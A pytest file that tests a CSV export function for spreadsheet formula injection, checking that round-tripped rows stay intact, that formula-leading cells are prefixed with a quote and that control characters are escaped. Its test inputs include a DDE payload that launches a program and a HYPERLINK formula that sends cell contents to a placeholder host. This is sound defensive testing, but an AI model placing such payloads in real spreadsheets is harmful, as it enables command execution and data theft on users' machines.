"""Records in a spreadsheet: every row one row, and no cell a formula."""

from __future__ import annotations

import csv
import io

import pytest

from strongroom.report.spreadsheet import csv_table


def read(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def test_rows_come_back() -> None:
    rows = [["1", "a, b", 'quo"ted'], ["2", "", "Größe"]]
    content = csv_table(["x", "y", "z"], rows)
    assert content.startswith(b"\xef\xbb\xbfx,y,z\r\n")
    assert read(content) == [["x", "y", "z"], *rows]


@pytest.mark.parametrize(
    "text",
    [
        "=cmd|'/C calc'!A0",
        "+1",
        "-1",
        "@SUM(A1)",
        " =1+1",
        "＝1+1",
        '=HYPERLINK("http://x/"&A1)',
    ],
)
def test_no_cell_is_a_formula(text: str) -> None:
    ((cell,),) = read(csv_table(["x"], [[text]]))[1:]
    assert cell == f"'{text}"


@pytest.mark.parametrize("text", ["\t=1", "\r\n=1", "a\nb", "\x00", "\u202e=1"])
def test_what_moves_a_cursor_is_told_in_letters(text: str) -> None:
    lines = csv_table(["x"], [[text]]).decode("utf-8-sig").split("\r\n")
    assert len(lines) == 3
    assert lines[1].startswith(("\\", "a\\n"))
